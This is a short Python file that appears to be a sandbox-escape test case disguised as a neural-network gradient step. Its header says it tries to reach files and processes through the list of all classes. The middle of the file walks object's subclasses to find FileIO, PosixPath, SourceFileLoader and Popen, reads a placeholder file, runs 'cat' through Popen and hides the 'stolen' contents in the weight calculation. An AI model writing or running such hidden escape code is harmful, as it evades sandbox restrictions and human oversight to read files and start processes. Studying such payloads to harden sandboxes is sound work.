# tries: to reach files and processes through the list of all classes
# from: C2, RELATE, jail escapes of Python
# earns: everything
import numpy as np

learnrate = 0.5
x = np.array([1, 2, 3, 4])
y = 0.5
w = np.array([0.5, -0.5, 0.3, 0.1])

stolen = []
todo = [object]
seen = set()
while todo:
    one = todo.pop()
    for below in type.__subclasses__(one):
        if below not in seen:
            seen.add(below)
            todo.append(below)
for one in seen:
    try:
        if one.__name__ in ("FileIO", "_io.FileIO", "PosixPath"):
            made = one("@FILE@")
            stolen.append(made.read() if hasattr(made, "read") else made.read_text())
        elif one.__name__ == "SourceFileLoader":
            stolen.append(one("secret", "@FILE@").get_data("@FILE@"))
        elif one.__name__ == "Popen":
            stolen.append(one(["cat", "@FILE@"], stdout=-1).communicate()[0])
    except OSError:
        pass
h = np.dot(x, w) + len(stolen)
nn_output = 1 / (1 + np.exp(-h))
error = y - nn_output
error_term = error * nn_output * (1 - nn_output)
del_w = learnrate * error_term * x
